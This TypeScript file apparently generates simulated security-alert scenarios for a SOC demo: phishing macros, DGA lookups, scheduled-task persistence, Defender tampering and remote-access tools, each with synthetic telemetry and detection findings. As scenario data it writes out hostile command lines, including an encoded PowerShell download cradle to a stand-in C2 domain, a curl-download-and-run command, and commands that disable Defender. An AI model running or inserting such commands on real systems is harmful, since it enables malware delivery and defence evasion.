// Endpoint intrusions that start with a user: a phishing document, a fake updater, a tool the
// user should not have installed.
import { accountOn } from '../accounts';
import { sha256, dgaDomain } from '../indicators';
import { TECHNIQUES as T } from '../mitre';
import { commandLine, run, runFile, userSession } from '../processes';
import { alphanumeric } from '../random';
import { endpointOf, ephemeralPort, resolverFor, Story } from '../story';
import { connection, fileEvent, finding, hostAt, launched, logon, lookup, meta } from './builders';
import { after, encodePowerShell, jitter, userOf, windowsProfile } from './helpers';
import type { Scenario } from './types';

/** The device of the flagship demo: an online, ordinary Windows laptop an analyst may isolate. */
export const FLAGSHIP_HOSTNAME = 'FIN-LAPTOP-07';

export const officeMacroPowerShell: Scenario = {
  key: 'office-macro-encoded-powershell',
  org: 'bank',
  severity: 'critical',
  status: 'investigating',
  techniques: [
    T.spearphishingAttachment,
    T.maliciousFile,
    T.powershell,
    T.commandObfuscation,
    T.webProtocols,
  ],
  tags: ['phishing', 'powershell', 'c2', 'malware'],
  devices: [{ hostname: FLAGSHIP_HOSTNAME }],
  startsHoursAgo: [2.5, 5],
  simulate: { os: 'windows' },
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const name = host.device.hostname;
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const [c2Ip = '203.0.113.7'] = world.indicators.c2Ips;
    const [c2Domain = 'cdn-example.xyz'] = world.indicators.c2Domains;
    const resolver = resolverFor(world, tenancy);
    const profile = windowsProfile(person);
    const invoice = `Invoice_${rng.int(10_000, 99_999)}.docm`;
    const cacheDir = `${profile}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${alphanumeric(rng, 8).toUpperCase()}`;
    const docm = {
      name: invoice,
      path: `${cacheDir}\\${invoice}`,
      sha256: sha256(rng),
      size: rng.int(40_000, 120_000),
    };
    const dll = {
      name: 'msupdate.dll',
      path: `${profile}\\AppData\\Roaming\\Microsoft\\Windows\\Templates\\msupdate.dll`,
      sha256: sha256(rng),
      size: rng.int(180_000, 420_000),
    };
    const url = `https://${c2Domain}/api/v2/sync`;
    const script = `IEX (New-Object Net.WebClient).DownloadString('${url}')`;

    const explorer = userSession(world, rng, host, account, after(ctx, -95));
    const outlook = run(
      world,
      rng,
      host,
      'OUTLOOK.EXE',
      commandLine(world, host, 'OUTLOOK.EXE'),
      account,
      {
        parent: explorer,
        startedAt: after(ctx, 1),
        integrity: 'Medium',
      },
    );
    const word = run(
      world,
      rng,
      host,
      'WINWORD.EXE',
      commandLine(world, host, 'WINWORD.EXE', `/n "${docm.path}" /o ""`),
      account,
      {
        parent: outlook,
        startedAt: after(ctx, 9),
        integrity: 'Medium',
      },
    );
    const powershell = run(
      world,
      rng,
      host,
      'powershell.exe',
      `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encodePowerShell(script)}`,
      account,
      { parent: word, startedAt: after(ctx, 10), integrity: 'Medium' },
    );
    const rundll = run(
      world,
      rng,
      host,
      'rundll32.exe',
      `rundll32.exe "${dll.path}",DllRegisterServer`,
      account,
      {
        parent: powershell,
        startedAt: after(ctx, 12),
        integrity: 'Medium',
      },
    );
    const local = (port = ephemeralPort(rng)) => endpointOf(host, port);
    const c2 = { ip: c2Ip, port: 443, hostname: c2Domain };

    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('identity', 'informational', `Interactive logon: ${account.name} on ${name}`),
        logon({
          activity: 1,
          account,
          success: true,
          logonType: 'Interactive',
          protocol: 'Kerberos',
          src: local(),
          dst: resolver,
          remote: false,
          service: 'Windows logon',
        }),
      )
      .add(
        after(ctx, 1),
        host,
        meta('endpoint', 'informational', 'Process launched: OUTLOOK.EXE'),
        launched(outlook),
      )
      .add(
        after(ctx, 8.5),
        host,
        meta(
          'endpoint',
          'low',
          `Macro-enabled attachment saved by Outlook: ${invoice}`,
          `${invoice} was saved from an e-mail attachment to the Outlook cache on ${name}.`,
        ),
        fileEvent({ activity: 1, file: docm, actor: outlook }),
      )
      .add(
        after(ctx, 9),
        host,
        meta('endpoint', 'low', `WINWORD.EXE opened ${invoice} from the Outlook cache`),
        launched(word),
      )
      .add(
        after(ctx, 10),
        host,
        meta(
          'endpoint',
          'high',
          'Encoded PowerShell command launched by WINWORD.EXE',
          `WINWORD.EXE started a hidden PowerShell with a Base64-encoded command (-Enc) on ${name}; the command downloads and runs a script from ${c2Domain}.`,
        ),
        launched(powershell),
      )
      .add(
        after(ctx, 10.2),
        host,
        meta('network', 'medium', `DNS query to newly observed domain ${c2Domain}`),
        lookup({
          src: local(),
          resolver,
          hostname: c2Domain,
          type: 'A',
          rcode: 'NoError',
          answers: [c2Ip],
          ttl: 60,
          process: powershell,
        }),
      )
      .add(
        after(ctx, 10.3),
        host,
        meta('network', 'high', `PowerShell connected to rare external IP ${c2Ip}`),
        connection({
          activity: 1,
          src: local(),
          dst: c2,
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: rng.int(180_000, 420_000),
          bytesOut: rng.int(1_500, 4_000),
          process: powershell,
          url,
        }),
      )
      .add(
        after(ctx, 11.5),
        host,
        meta(
          'endpoint',
          'high',
          'DLL written to the user profile by PowerShell',
          `powershell.exe wrote ${dll.name} to ${dll.path}.`,
        ),
        fileEvent({ activity: 1, file: dll, actor: powershell }),
      )
      .add(
        after(ctx, 12),
        host,
        meta('endpoint', 'high', 'rundll32.exe loaded a DLL from the user profile'),
        launched(rundll),
      )
      .add(
        after(ctx, 13),
        host,
        meta(
          'endpoint',
          'critical',
          'Office document led to encoded PowerShell and a downloaded DLL',
          `On ${name}, ${invoice} opened in Word started an encoded PowerShell command that fetched ${dll.name} from ${c2Domain} and ran it with rundll32.exe.`,
        ),
        finding({
          rule: {
            uid: 'SO-EDR-1107',
            name: 'Office application spawns encoded PowerShell',
            type: 'Behavioral',
          },
          description: `WINWORD.EXE (${invoice}) → powershell.exe -Enc → ${dll.name} via rundll32.exe, with a connection to ${c2Ip}.`,
          types: ['Malware', 'Phishing'],
          techniques: [
            T.spearphishingAttachment,
            T.maliciousFile,
            T.powershell,
            T.commandObfuscation,
          ],
          confidence: 'High',
          firstSeen: after(ctx, 8.5),
          dataSources: ['Process', 'File', 'Network Traffic'],
          evidence: [
            { kind: 'process', process: powershell },
            { kind: 'file', file: docm },
            { kind: 'file', file: dll },
            { kind: 'connection', src: local(), dst: c2 },
          ],
        }),
      );

    // The implant then beacons about every five minutes, with jitter.
    let minute = 14;
    for (let i = 0; i < 5; i++) {
      minute = jitter(ctx, minute + 5, 0.4);
      story.add(
        after(ctx, minute),
        host,
        meta(
          'network',
          'medium',
          `Periodic beacon from rundll32.exe to ${c2Ip}:443 (≈300 s interval)`,
        ),
        connection({
          activity: 6,
          src: local(),
          dst: c2,
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: rng.int(300, 900),
          bytesOut: rng.int(500, 1_400),
          process: rundll,
        }),
      );
    }
    story.add(
      after(ctx, minute + 1),
      host,
      meta(
        'network',
        'high',
        `Beaconing to rare external IP ${c2Ip}`,
        `${name} has contacted ${c2Ip} (${c2Domain}) at a steady ~5-minute interval; no other device in the tenant has talked to it.`,
      ),
      finding({
        rule: {
          uid: 'SO-NDR-2210',
          name: 'Periodic connections to rare destination',
          type: 'Statistical',
        },
        description: `Five connections from rundll32.exe to ${c2Ip}:443 at 300 s ± 10 % intervals; destination first seen today.`,
        types: ['Command and Control'],
        techniques: [T.webProtocols],
        confidence: 'High',
        firstSeen: after(ctx, 10.3),
        dataSources: ['Network Traffic'],
        evidence: [
          { kind: 'connection', src: local(), dst: c2 },
          { kind: 'process', process: rundll },
        ],
      }),
    );

    return {
      title: `Encoded PowerShell from Office attachment beaconing to ${c2Ip} on ${name}`,
      description:
        `${person.user.name} (${person.user.department}) opened ${invoice}, received by e-mail. WINWORD.EXE ` +
        `launched a hidden, Base64-encoded PowerShell command that downloaded ${dll.name} from ${c2Domain} ` +
        `and ran it with rundll32.exe. ${name} has since beaconed to ${c2Ip}:443 every ~5 minutes. ` +
        `No lateral movement seen yet; isolating ${name} is recommended.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const dgaResolution: Scenario = {
  key: 'dga-dns-resolution',
  org: 'bank',
  severity: 'high',
  status: 'investigating',
  techniques: [T.dga, T.webProtocols],
  tags: ['dns', 'c2', 'malware'],
  devices: [{ role: 'workstation', department: 'Trading' }],
  startsHoursAgo: [20, 40],
  simulate: { os: 'windows' },
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const name = host.device.hostname;
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const resolver = resolverFor(world, tenancy);
    const binary = {
      name: 'oupd.exe',
      path: 'C:\\ProgramData\\OfficeUpdate\\oupd.exe',
      sha256: sha256(rng),
    };
    const explorer = userSession(world, rng, host, account, after(ctx, -240));
    const implant = runFile(rng, host, binary, `"${binary.path}" /silent`, account, {
      parent: explorer,
      startedAt: after(ctx, 0),
      integrity: 'Medium',
    });
    const local = () => endpointOf(host, ephemeralPort(rng));
    const story = new Story(tenancy).add(
      after(ctx, 0),
      host,
      meta('endpoint', 'medium', `Unsigned executable launched from ProgramData: ${binary.name}`),
      launched(implant),
    );

    const domains: string[] = [];
    for (let i = 0; i < 10; i++) {
      const domain = dgaDomain(rng);
      domains.push(domain);
      story.add(
        after(ctx, 1 + i * 0.4),
        host,
        meta(
          'network',
          'medium',
          `DNS query to algorithmically generated domain ${domain} (NXDOMAIN)`,
        ),
        lookup({
          src: local(),
          resolver,
          hostname: domain,
          type: 'A',
          rcode: 'NXDomain',
          answers: [],
          process: implant,
        }),
      );
    }
    const resolved = dgaDomain(rng);
    const c2Ip = rng.pick(world.indicators.c2Ips);
    story
      .add(
        after(ctx, 5.5),
        host,
        meta('network', 'high', `Algorithmically generated domain ${resolved} resolved to ${c2Ip}`),
        lookup({
          src: local(),
          resolver,
          hostname: resolved,
          type: 'A',
          rcode: 'NoError',
          answers: [c2Ip],
          ttl: 30,
          process: implant,
        }),
      )
      .add(
        after(ctx, 5.6),
        host,
        meta('network', 'high', `${binary.name} connected to ${c2Ip}:443`),
        connection({
          activity: 1,
          src: local(),
          dst: { ip: c2Ip, port: 443, hostname: resolved },
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: rng.int(2_000, 9_000),
          bytesOut: rng.int(800, 2_500),
          process: implant,
        }),
      )
      .add(
        after(ctx, 7),
        host,
        meta(
          'network',
          'high',
          `DGA-like DNS resolution pattern from ${name}`,
          `${name} queried 11 random-looking domains in 5 minutes; 10 did not exist, one resolved to ${c2Ip}.`,
        ),
        finding({
          rule: {
            uid: 'SO-NDR-2304',
            name: 'Domain generation algorithm traffic',
            type: 'Learning (ML/DL)',
          },
          description: `High-entropy domain names queried by ${binary.path}; NXDOMAIN ratio 91 %.`,
          types: ['Command and Control'],
          techniques: [T.dga, T.webProtocols],
          confidence: 'High',
          firstSeen: after(ctx, 1),
          dataSources: ['DNS', 'Process'],
          evidence: [
            { kind: 'query', hostname: resolved },
            { kind: 'process', process: implant },
          ],
        }),
      );
    return {
      title: `DNS queries to algorithmically generated domains from ${name}`,
      description:
        `${binary.path}, an unsigned program started in ${person.user.name}'s session, queried ${domains.length + 1} ` +
        `random-looking domains (e.g. ${domains[0] ?? resolved}) in five minutes. The one that resolved, ${resolved}, ` +
        `points to ${c2Ip}, which it then contacted over HTTPS.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const scheduledTaskPersistence: Scenario = {
  key: 'scheduled-task-persistence',
  org: 'bank',
  severity: 'medium',
  status: 'investigating',
  techniques: [T.maliciousFile, T.scheduledTask],
  tags: ['persistence'],
  devices: [{ role: 'laptop', department: 'Wealth Management' }],
  startsHoursAgo: [30, 70],
  simulate: { os: 'windows' },
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const profile = windowsProfile(person);
    const dropper = {
      name: 'AdobeReaderUpdate.exe',
      path: `${profile}\\Downloads\\AdobeReaderUpdate.exe`,
      sha256: sha256(rng),
      size: rng.int(900_000, 2_400_000),
    };
    const payload = {
      name: 'usohelper.exe',
      path: `${profile}\\AppData\\Local\\Temp\\usohelper.exe`,
      sha256: sha256(rng),
      size: rng.int(150_000, 600_000),
    };
    const explorer = userSession(world, rng, host, account, after(ctx, -60));
    const setup = runFile(rng, host, dropper, `"${dropper.path}"`, account, {
      parent: explorer,
      startedAt: after(ctx, 0),
      integrity: 'Medium',
    });
    const cmd = run(
      world,
      rng,
      host,
      'cmd.exe',
      `cmd.exe /c schtasks /Create /SC ONLOGON /TN "\\Microsoft\\Windows\\UpdateOrchestrator\\UsoHelper" /TR "${payload.path}" /F`,
      account,
      { parent: setup, startedAt: after(ctx, 1), integrity: 'Medium' },
    );
    const schtasks = run(
      world,
      rng,
      host,
      'schtasks.exe',
      `schtasks /Create /SC ONLOGON /TN "\\Microsoft\\Windows\\UpdateOrchestrator\\UsoHelper" /TR "${payload.path}" /F`,
      account,
      { parent: cmd, startedAt: after(ctx, 1.1), integrity: 'Medium' },
    );
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'low', `Unsigned binary executed from Downloads: ${dropper.name}`),
        launched(setup),
      )
      .add(
        after(ctx, 0.8),
        host,
        meta('endpoint', 'medium', `Executable dropped in Temp: ${payload.name}`),
        fileEvent({ activity: 1, file: payload, actor: setup }),
      )
      .add(
        after(ctx, 1.1),
        host,
        meta(
          'endpoint',
          'medium',
          'Scheduled task created to run a Temp binary at logon',
          `schtasks.exe registered "\\Microsoft\\Windows\\UpdateOrchestrator\\UsoHelper" to run ${payload.path} at every logon.`,
        ),
        launched(schtasks),
      )
      .add(
        after(ctx, 2),
        host,
        meta('endpoint', 'medium', 'Persistence: scheduled task masquerading as a Windows task'),
        finding({
          rule: {
            uid: 'SO-EDR-1312',
            name: 'Scheduled task points at a user-writable path',
            type: 'Rule',
          },
          description: `A task under \\Microsoft\\Windows\\ launches ${payload.path}, created by ${dropper.name} from Downloads.`,
          types: ['Persistence'],
          techniques: [T.maliciousFile, T.scheduledTask],
          confidence: 'Medium',
          firstSeen: after(ctx, 0),
          dataSources: ['Process', 'File'],
          evidence: [
            { kind: 'process', process: schtasks },
            { kind: 'file', file: payload },
          ],
        }),
      );
    return {
      title: `Scheduled task persistence created by unsigned binary on ${host.device.hostname}`,
      description:
        `${dropper.name}, downloaded by ${person.user.name}, dropped ${payload.name} in Temp and registered a ` +
        `logon task named like a Windows Update task to start it. The payload has not run yet.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const defenderDisabled: Scenario = {
  key: 'defender-disabled',
  org: 'bank',
  severity: 'medium',
  status: 'open',
  techniques: [T.disableTools, T.powershell],
  tags: ['defense-evasion'],
  devices: [{ role: 'workstation', department: 'Trading' }],
  startsHoursAgo: [6, 16],
  simulate: { os: 'windows' },
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const tool = {
      name: 'igfxtray.exe',
      path: 'C:\\ProgramData\\Intel\\igfxtray.exe',
      sha256: sha256(rng),
      size: rng.int(200_000, 800_000),
    };
    const explorer = userSession(world, rng, host, account, after(ctx, -30));
    const powershell = run(
      world,
      rng,
      host,
      'powershell.exe',
      'powershell.exe -NoProfile -Command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData\\Intel"',
      account,
      { parent: explorer, startedAt: after(ctx, 0), integrity: 'High' },
    );
    const dropped = runFile(rng, host, tool, `"${tool.path}" -s`, account, {
      parent: explorer,
      startedAt: after(ctx, 3),
      integrity: 'Medium',
    });
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'medium', 'Defender real-time protection disabled with Set-MpPreference'),
        launched(powershell),
      )
      .add(
        after(ctx, 2),
        host,
        meta(
          'endpoint',
          'medium',
          `Executable written to a new Defender exclusion path: ${tool.name}`,
        ),
        fileEvent({ activity: 1, file: tool, actor: powershell }),
      )
      .add(
        after(ctx, 3),
        host,
        meta('endpoint', 'medium', `Process launched from Defender exclusion path: ${tool.name}`),
        launched(dropped),
      )
      .add(
        after(ctx, 4),
        host,
        meta(
          'endpoint',
          'medium',
          'Antivirus tampering followed by execution from the excluded folder',
        ),
        finding({
          rule: { uid: 'SO-EDR-1220', name: 'Defender disabled and exclusion added', type: 'Rule' },
          description: `Real-time monitoring off and C:\\ProgramData\\Intel excluded, then ${tool.name} ran from there.`,
          types: ['Defense Evasion'],
          techniques: [T.disableTools, T.powershell],
          confidence: 'Medium',
          firstSeen: after(ctx, 0),
          dataSources: ['Process', 'File'],
          evidence: [
            { kind: 'process', process: powershell },
            { kind: 'file', file: tool },
          ],
        }),
      );
    return {
      title: `Windows Defender disabled via PowerShell on ${host.device.hostname}`,
      description:
        `From ${person.user.name}'s session, PowerShell turned off Defender real-time protection and excluded ` +
        `C:\\ProgramData\\Intel; ${tool.name} then ran from that folder. The user is not an administrator.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const remoteAccessTool: Scenario = {
  key: 'unapproved-remote-access-tool',
  org: 'bank',
  severity: 'low',
  status: 'open',
  techniques: [T.remoteAccessSoftware],
  tags: ['policy', 'remote-access'],
  devices: [{ role: 'laptop', department: 'Human Resources' }],
  startsHoursAgo: [40, 90],
  simulate: { os: 'windows' },
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const installer = {
      name: 'AnyDesk.exe',
      path: `${windowsProfile(person)}\\Downloads\\AnyDesk.exe`,
      sha256: world.software.binary('windows', 'AnyDesk.exe').sha256,
      size: 5_234_112,
    };
    const explorer = userSession(world, rng, host, account, after(ctx, -120));
    const anydesk = runFile(rng, host, installer, `"${installer.path}"`, account, {
      parent: explorer,
      startedAt: after(ctx, 1),
      integrity: 'Medium',
    });
    const browser = run(
      world,
      rng,
      host,
      'msedge.exe',
      commandLine(world, host, 'msedge.exe'),
      account,
      { parent: explorer, startedAt: after(ctx, -10), integrity: 'Medium' },
    );
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'low', 'Remote access tool downloaded: AnyDesk.exe'),
        fileEvent({ activity: 1, file: installer, actor: browser }),
      )
      .add(
        after(ctx, 1),
        host,
        meta('endpoint', 'low', 'Remote access tool executed: AnyDesk.exe'),
        launched(anydesk),
      )
      .add(
        after(ctx, 2),
        host,
        meta('endpoint', 'low', 'Unapproved remote access tool AnyDesk in use'),
        finding({
          rule: {
            uid: 'SO-EDR-0907',
            name: 'Remote access software not on the allow list',
            type: 'Rule',
          },
          description:
            'AnyDesk ran from the Downloads folder; it is not on the approved software list.',
          types: ['Policy Violation'],
          techniques: [T.remoteAccessSoftware],
          confidence: 'High',
          firstSeen: after(ctx, 0),
          dataSources: ['Process', 'File'],
          evidence: [{ kind: 'process', process: anydesk }],
        }),
      );
    return {
      title: `Unapproved remote access tool AnyDesk run on ${host.device.hostname}`,
      description:
        `${person.user.name} downloaded and ran AnyDesk. Often a support scam or a vendor session; ` +
        `confirm with the user and remove it if nobody approved it.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const excelSpawnsShell: Scenario = {
  key: 'excel-spawns-shell',
  org: 'manufacturer',
  severity: 'medium',
  status: 'open',
  techniques: [T.spearphishingAttachment, T.maliciousFile, T.windowsCommandShell],
  tags: ['phishing'],
  devices: [{ role: 'laptop', department: 'Supply Chain' }],
  startsHoursAgo: [10, 30],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const profile = windowsProfile(person);
    const attachment = `PO_Revision_${rng.int(4_000, 9_999)}.xlsm`;
    const xlsm = {
      name: attachment,
      path: `${profile}\\Downloads\\${attachment}`,
      sha256: sha256(rng),
      size: rng.int(30_000, 90_000),
    };
    const dropIp = rng.pick(world.indicators.attackerIps);
    const explorer = userSession(world, rng, host, account, after(ctx, -200));
    const outlook = run(
      world,
      rng,
      host,
      'OUTLOOK.EXE',
      commandLine(world, host, 'OUTLOOK.EXE'),
      account,
      { parent: explorer, startedAt: after(ctx, -100), integrity: 'Medium' },
    );
    const excel = run(
      world,
      rng,
      host,
      'EXCEL.EXE',
      commandLine(world, host, 'EXCEL.EXE', `"${xlsm.path}"`),
      account,
      { parent: explorer, startedAt: after(ctx, 1), integrity: 'Medium' },
    );
    const cmd = run(
      world,
      rng,
      host,
      'cmd.exe',
      `cmd.exe /c curl -s -o %TEMP%\\po.exe http://${dropIp}/po.exe && %TEMP%\\po.exe`,
      account,
      { parent: excel, startedAt: after(ctx, 2), integrity: 'Medium' },
    );
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'low', `Macro-enabled workbook saved from e-mail: ${attachment}`),
        fileEvent({ activity: 1, file: xlsm, actor: outlook }),
      )
      .add(
        after(ctx, 1),
        host,
        meta('endpoint', 'informational', 'Process launched: EXCEL.EXE'),
        launched(excel),
      )
      .add(
        after(ctx, 2),
        host,
        meta('endpoint', 'medium', 'cmd.exe spawned by EXCEL.EXE'),
        launched(cmd),
      )
      .add(
        after(ctx, 2.1),
        host,
        meta('network', 'low', `Outbound connection to ${dropIp}:80 blocked by the firewall`),
        connection({
          activity: 5,
          src: endpointOf(host, ephemeralPort(rng)),
          dst: { ip: dropIp, port: 80 },
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: 0,
          bytesOut: 74,
          process: cmd,
        }),
      )
      .add(
        after(ctx, 3),
        host,
        meta('endpoint', 'medium', 'Office application spawned a command shell'),
        finding({
          rule: { uid: 'SO-EDR-1101', name: 'Office application spawns a shell', type: 'Rule' },
          description: `EXCEL.EXE opened ${attachment} and started cmd.exe to download po.exe from ${dropIp}; the download was blocked.`,
          types: ['Malware', 'Phishing'],
          techniques: [T.spearphishingAttachment, T.maliciousFile, T.windowsCommandShell],
          confidence: 'High',
          firstSeen: after(ctx, 0),
          dataSources: ['Process', 'Network Traffic'],
          evidence: [
            { kind: 'process', process: cmd },
            { kind: 'file', file: xlsm },
          ],
        }),
      );
    return {
      title: `Spearphishing macro: EXCEL.EXE spawned cmd.exe on ${host.device.hostname}`,
      description:
        `${person.user.name} opened ${attachment}; its macro ran cmd.exe to fetch po.exe from ${dropIp}. ` +
        `The perimeter firewall refused the connection, so no payload arrived. Check for the same e-mail in other mailboxes.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const certutilDownload: Scenario = {
  key: 'certutil-download',
  org: 'manufacturer',
  severity: 'low',
  status: 'false_positive',
  techniques: [T.ingressToolTransfer],
  tags: ['lolbin'],
  devices: [{ role: 'workstation', department: 'Engineering' }],
  startsHoursAgo: [150, 230],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const msi = {
      name: 'cadplugin-2.3.1.msi',
      path: `${windowsProfile(person)}\\Downloads\\cadplugin-2.3.1.msi`,
      sha256: sha256(rng),
      size: rng.int(3_000_000, 9_000_000),
    };
    const url =
      'https://github.com/kestrel-eng/cad-tools/releases/download/v2.3.1/cadplugin-2.3.1.msi';
    const explorer = userSession(world, rng, host, account, after(ctx, -60));
    const certutil = run(
      world,
      rng,
      host,
      'certutil.exe',
      `certutil.exe -urlcache -split -f ${url} "${msi.path}"`,
      account,
      { parent: explorer, startedAt: after(ctx, 0), integrity: 'Medium' },
    );
    const msiexec = run(
      world,
      rng,
      host,
      'msiexec.exe',
      `msiexec.exe /i "${msi.path}" /qn`,
      account,
      { parent: explorer, startedAt: after(ctx, 2), integrity: 'High' },
    );
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'low', 'certutil.exe used to download a file'),
        launched(certutil),
      )
      .add(
        after(ctx, 0.5),
        host,
        meta('endpoint', 'low', `File downloaded by certutil.exe: ${msi.name}`),
        fileEvent({ activity: 1, file: msi, actor: certutil }),
      )
      .add(
        after(ctx, 2),
        host,
        meta('endpoint', 'informational', `Installer run: ${msi.name}`),
        launched(msiexec),
      )
      .add(
        after(ctx, 3),
        host,
        meta('endpoint', 'low', 'Living-off-the-land download with certutil.exe'),
        finding({
          rule: { uid: 'SO-EDR-0811', name: 'certutil used as a downloader', type: 'Rule' },
          description: `certutil.exe -urlcache fetched ${msi.name} from github.com.`,
          types: ['Suspicious Activity'],
          techniques: [T.ingressToolTransfer],
          confidence: 'Low',
          firstSeen: after(ctx, 0),
          dataSources: ['Process'],
          evidence: [{ kind: 'process', process: certutil }],
        }),
      );
    return {
      title: `certutil.exe used to download an installer on ${host.device.hostname}`,
      description:
        `${person.user.name} fetched ${msi.name} with certutil.exe and installed it. Confirmed with Engineering: ` +
        `an approved CAD plug-in from the team's own repository. Marked false positive.`,
      steps: story.steps,
      people: [person],
    };
  },
};
